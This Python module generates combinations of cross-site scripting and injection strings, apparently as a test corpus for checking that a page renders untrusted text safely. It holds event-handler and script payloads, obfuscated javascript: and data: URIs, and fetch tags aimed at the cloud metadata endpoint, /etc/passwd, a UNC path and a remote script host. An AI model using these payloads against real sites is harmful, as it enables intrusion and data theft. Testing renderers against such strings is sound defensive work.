"""Texts that would run, lead astray or fetch something if a page took them for anything but text: what is known to
have worked somewhere, in every combination."""

from __future__ import annotations

from itertools import product

_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "math")
_TAGS += ("iframe src=x", "object data=x", "a href=x", "marquee", "select autofocus", "textarea autofocus", "style")
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onbegin")
_BREAKS = ("", '"', "'", '">', "</textarea>", "</script>", "</style>", "</title>", "-->", "]]>")
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src={there}/x.js></script>",
    "<svg><script>alert(1)</script></svg>",
)
_TARGETS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][{}]\n\n[{}]: {}",
    '<a href="{}">x</a>',
    '<form action="{}"><input></form>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a href="{}">x</a></svg>',
    "$\\href{{{}}}{{x}}$",
)
_PLACES = ("{there}/seen", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "\\\\127.0.0.1\\x")
_FETCHES = (
    "![x]({})",
    "![x](<{}>)",
    '<img src="{}">',
    '<link rel=stylesheet href="{}">',
    "<style>@import url({})</style>",
    '<meta http-equiv=refresh content="0;url={}">',
    '<iframe src="{}"></iframe>',
    '<svg><image href="{}"/></svg>',
    '<video poster="{}"></video>',
    ":material/{}:",
)


def payloads(there: str) -> list[str]:
    """All of them; what fetches something would fetch it from `there`."""
    handlers = [f"<{tag} {handler}=alert(1)>" for tag, handler in product(_TAGS, _HANDLERS)]
    scripts = [before + script for before, script in product(_BREAKS, _SCRIPTS)]
    links = [link.replace("{}", target) for link, target in product(_LINKS, _TARGETS)]
    fetches = [fetch.replace("{}", place) for fetch, place in product(_FETCHES, _PLACES)]
    return [each.replace("{there}", there) for each in (*handlers, *scripts, *links, *fetches)]
